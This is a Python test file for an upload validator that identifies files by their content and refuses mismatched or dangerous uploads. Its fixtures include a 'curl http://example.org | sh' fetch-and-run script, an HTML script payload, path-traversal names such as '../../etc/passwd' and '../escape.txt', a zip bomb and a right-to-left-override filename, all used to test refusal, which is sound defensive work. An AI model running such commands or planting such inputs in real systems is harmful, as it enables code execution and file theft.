"""File types told by content, the name's extension agreeing (applications.file_types)."""

from __future__ import annotations

import io
import json
import struct
import zipfile

import pytest
from applications.file_types import (
    BY_EXTENSION,
    FILE_TYPES,
    IMAGE_KEYS,
    FileTypeRefused,
    clean_filename,
    detect,
    extension_of,
    file_type_choices,
)

MB = 1 << 20


def zipped(*members: tuple[str, bytes]) -> bytes:
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members:
            archive.writestr(name, content)
    return data.getvalue()


def tiff(tags: list[int], order: bytes = b"II") -> bytes:
    fmt = "<" if order == b"II" else ">"
    head = order + struct.pack(fmt + "HI", 42, 8)
    entries = b"".join(struct.pack(fmt + "HHII", tag, 3, 1, 0) for tag in tags)
    return head + struct.pack(fmt + "H", len(tags)) + entries + b"\0\0\0\0"


def sqlite(application_id: bytes = b"GPKG") -> bytes:
    return b"SQLite format 3\x00" + bytes(52) + application_id + bytes(4096 - 72)


DOCX = zipped(("[Content_Types].xml", b"<Types/>"), ("word/document.xml", b"<w:document/>"))
XLSX = zipped(("[Content_Types].xml", b"<Types/>"), ("xl/workbook.xml", b"<workbook/>"))
PPTX = zipped(("[Content_Types].xml", b"<Types/>"), ("ppt/presentation.xml", b"<p/>"))


def odf(kind: str) -> bytes:
    return zipped(
        ("mimetype", f"application/vnd.oasis.opendocument.{kind}".encode()),
        ("content.xml", b"<office:document-content/>"),
    )


QGS = b"<!DOCTYPE qgis PUBLIC 'http://mrcc.com/qgis.dtd' 'SYSTEM'>\n<qgis version=\"3.34.0\"/>\n"
SVG = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n<!-- logo -->\n'
    b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"/>'
)
GEOJSON = json.dumps({"type": "FeatureCollection", "features": []}).encode()
PDF = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n"

ACCEPTED = [
    ("lecture.pdf", PDF, "pdf", "application/pdf"),
    ("Lecture.PDF", PDF, "pdf", "application/pdf"),
    ("slides.docx", DOCX, "docx", None),
    ("sheet.xlsx", XLSX, "xlsx", None),
    ("deck.pptx", PPTX, "pptx", None),
    ("text.odt", odf("text"), "odt", "application/vnd.oasis.opendocument.text"),
    ("sheet.ods", odf("spreadsheet"), "ods", None),
    ("deck.odp", odf("presentation"), "odp", None),
    ("old.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1024), "doc", "application/msword"),
    ("old.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1024), "xls", None),
    ("old.ppt", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1024), "ppt", None),
    ("README.md", "# Exercise 1\n\nÎncărcați stratul.\n".encode(), "markdown", "text/markdown"),
    ("notes.txt", "\ufeffplain text with a BOM".encode(), "text", "text/plain"),
    ("points.csv", b"x,y\n1,2\n", "csv", "text/csv"),
    ("layer.geojson", GEOJSON, "geojson", "application/geo+json"),
    ("layer.json", GEOJSON, "geojson", "application/geo+json"),
    ("style.json", b'{"colour": "red"}', "json", "application/json"),
    ("logo.png", b"\x89PNG\r\n\x1a\n" + bytes(64), "png", "image/png"),
    ("logo.jpg", b"\xff\xd8\xff\xe0" + bytes(64), "jpeg", "image/jpeg"),
    ("logo.jpeg", b"\xff\xd8\xff\xe0" + bytes(64), "jpeg", "image/jpeg"),
    ("logo.gif", b"GIF89a" + bytes(64), "gif", "image/gif"),
    ("logo.webp", b"RIFF\x10\x00\x00\x00WEBPVP8 " + bytes(64), "webp", "image/webp"),
    ("logo.svg", SVG, "svg", "image/svg+xml"),
    ("data.zip", zipped(("a.csv", b"x\n")), "zip", "application/zip"),
    ("docx-as.zip", DOCX, "zip", "application/zip"),  # a .docx is a zip
    ("project.qgs", QGS, "qgs", "application/x-qgis-project"),
    ("project.qgz", zipped(("project.qgs", QGS), ("project.qgd", b"")), "qgz", None),
    ("data.gpkg", sqlite(), "gpkg", "application/geopackage+sqlite3"),
    ("old.gpkg", sqlite(b"GP10"), "gpkg", None),
    ("plain-sqlite.gpkg", sqlite(b"\0\0\0\0"), "gpkg", None),
    ("dem.tif", tiff([256, 257, 34735]), "geotiff", "image/tiff"),
    ("dem.tiff", tiff([256, 34735, 34736], order=b"MM"), "geotiff", "image/tiff"),
    ("scan.tif", tiff([256, 257]), "tiff", "image/tiff"),
]


@pytest.mark.parametrize(("name", "content", "key", "content_type"), ACCEPTED)
def test_accepted_by_content(name, content, key, content_type):
    found_key, found_type = detect(io.BytesIO(content), name)
    assert found_key == key
    if content_type:
        assert found_type == content_type


def test_every_type_has_an_accepted_sample():
    assert {key for _n, _c, key, _t in ACCEPTED} == {t.key for t in FILE_TYPES}


ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(120)
PE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + bytes(118) + b"PE\x00\x00" + bytes(64)
MACHO = b"\xcf\xfa\xed\xfe" + bytes(64)
HTML = b"<!DOCTYPE html>\n<html><body><script>alert(1)</script></body></html>"
SCRIPT = b"#!/bin/sh\ncurl http://example.org | sh\n"


@pytest.mark.parametrize(
    ("name", "content", "reason"),
    [
        ("lecture.pdf", ELF, "a program (ELF executable)"),
        ("lecture.pdf", PE, "a program (Windows executable)"),
        ("lecture.pdf", MACHO, "a program (macOS executable)"),
        ("lecture.pdf", HTML, "a web page (HTML)"),
        ("lecture.pdf", b"   <HTML><p>hi</p></HTML>", "a web page (HTML)"),
        ("lecture.pdf", SCRIPT, "a script"),
        ("lecture.pdf", DOCX, "a zip archive"),
        ("lecture.pdf", b"just some text, not a PDF", "its content is text"),
        ("notes.txt", SCRIPT, "a script"),
        ("notes.md", HTML, "a web page (HTML)"),
        ("page.svg", b'<?xml version="1.0"?><html xmlns="x"/>', "a web page"),
        ("logo.png", b"\xff\xd8\xff\xe0" + bytes(64), "a JPEG image"),
        ("logo.jpg", b"\x89PNG\r\n\x1a\n" + bytes(64), "a PNG image"),
        ("old.doc", DOCX, "a zip archive"),
        ("data.gpkg", b"x,y\n1,2\n", "its content is text"),
        ("dem.tif", b"\x89PNG\r\n\x1a\n" + bytes(64), "a PNG image"),
        ("data.zip", ELF, "ELF"),
    ],
)
def test_refused_when_the_content_is_another_kind(name, content, reason):
    with pytest.raises(FileTypeRefused) as refused:
        detect(io.BytesIO(content), name)
    message = str(refused.value)
    assert reason in message
    assert extension_of(name) in message


@pytest.mark.parametrize(
    ("name", "content", "reason"),
    [
        ("slides.xlsx", DOCX, "the archive holds: Word document"),
        ("slides.docx", zipped(("a.txt", b"x")), "a plain zip archive"),
        ("text.ods", odf("text"), "OpenDocument text"),
        ("project.qgz", zipped(("readme.txt", b"x")), "a plain zip archive"),
        ("layer.geojson", b'{"type": "Topology"}', "GeoJSON file must be"),
        ("layer.geojson", b"[1, 2]", "GeoJSON file must be"),
        ("layer.json", b"{not json", "not valid JSON"),
        ("project.qgs", SVG, "<qgis> root"),
        ("logo.svg", QGS, "<svg> root"),
        ("logo.svg", b"plain words", "<svg> root"),
        (
            "logo.svg",
            b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaa">]><svg>&a;</svg>',
            "declare their own document type",
        ),
        ("notes.txt", b"caf\xe9", "UTF-8"),
        ("notes.txt", "text".encode("utf-16"), "UTF-8"),
        ("notes.csv", b"a,b\n1,\x002\n", "holds NUL bytes"),
        ("data.zip", zipped(("../escape.txt", b"x")), "climbs out"),
        ("project.qgz", zipped(("p.qgs", QGS), ("zeros.bin", bytes(4 * MB))), "zip bomb"),
        ("data.gpkg", b"SQLite format 3\x00", "too short"),
    ],
)
def test_refused_by_structure(name, content, reason):
    with pytest.raises(FileTypeRefused) as refused:
        detect(io.BytesIO(content), name)
    assert reason in str(refused.value)


def test_text_is_checked_to_the_last_byte():
    content = b"x,y\n" * (MB // 2) + b"\xff"  # invalid UTF-8 far past the first bytes
    with pytest.raises(FileTypeRefused, match="not valid UTF-8"):
        detect(io.BytesIO(content), "big.csv")
    cut = "a,ă\n".encode() * 100
    with pytest.raises(FileTypeRefused, match="middle of a character"):
        detect(io.BytesIO(cut[:-2]), "cut.csv")


def test_large_geojson_is_judged_by_a_bounded_prefix():
    feature = {"type": "Feature", "properties": {"n": 1}, "geometry": None}
    body = json.dumps({"type": "FeatureCollection", "features": [feature] * 80_000}).encode()
    assert len(body) > 4 * MB
    assert detect(io.BytesIO(body), "big.geojson")[0] == "geojson"
    with pytest.raises(FileTypeRefused):
        detect(io.BytesIO(b"[" + b"1," * (3 * MB) + b"1]"), "big.geojson")


def test_a_pdf_header_followed_by_padding_is_a_pdf():
    """The synthetic file the upload benchmark sends (a 100 MB one there)."""
    content = b"%PDF-1.4\n" + bytes(8 * MB)
    assert detect(io.BytesIO(content), "material.pdf") == ("pdf", "application/pdf")


@pytest.mark.parametrize(
    ("name", "reason"),
    [
        ("setup.exe", "ending in .exe are not accepted"),
        ("run.sh", "ending in .sh are not accepted"),
        ("page.html", "ending in .html are not accepted"),
        ("README", "no extension"),
        (".pdf", "no extension"),
    ],
)
def test_refused_by_name(name, reason):
    with pytest.raises(FileTypeRefused, match=reason) as refused:
        detect(io.BytesIO(PDF), name)
    assert ".pdf" in str(refused.value)  # the message lists what is allowed


def test_empty_file_is_refused():
    with pytest.raises(FileTypeRefused, match="empty"):
        detect(io.BytesIO(b""), "notes.txt")


def test_the_file_is_left_at_its_start():
    data = io.BytesIO(DOCX)
    detect(data, "a.docx")
    assert data.tell() == 0
    data.seek(5)
    with pytest.raises(FileTypeRefused):
        detect(data, "a.pdf")
    assert data.tell() == 0


def test_choices_for_the_application_form():
    choices = file_type_choices()
    assert choices[0] == {"key": "pdf", "label": "PDF document", "extensions": [".pdf"]}
    assert {c["key"] for c in choices} == {t.key for t in FILE_TYPES}
    assert all(c["extensions"] and isinstance(c["label"], str) for c in choices)
    assert set(BY_EXTENSION) == {e for c in choices for e in c["extensions"]}
    assert {"png", "jpeg", "gif", "webp", "svg"} == IMAGE_KEYS


@pytest.mark.parametrize(
    ("given", "cleaned"),
    [
        ("lecture.pdf", "lecture.pdf"),
        ("../../etc/passwd", "passwd"),
        ("C:\\Users\\me\\slides.pptx", "slides.pptx"),
        ('a"b;c\r\nd.pdf', "a_b_cd.pdf"),
        ("Curs în română 中文.pdf", "Curs în română 中文.pdf"),
        ("\u202egpj.exe", "gpj.exe"),  # no right-to-left override
        ("...", "file"),
        ("x" * 300 + ".pdf", "x" * 196 + ".pdf"),
    ],
)
def test_clean_filename(given, cleaned):
    assert clean_filename(given) == cleaned
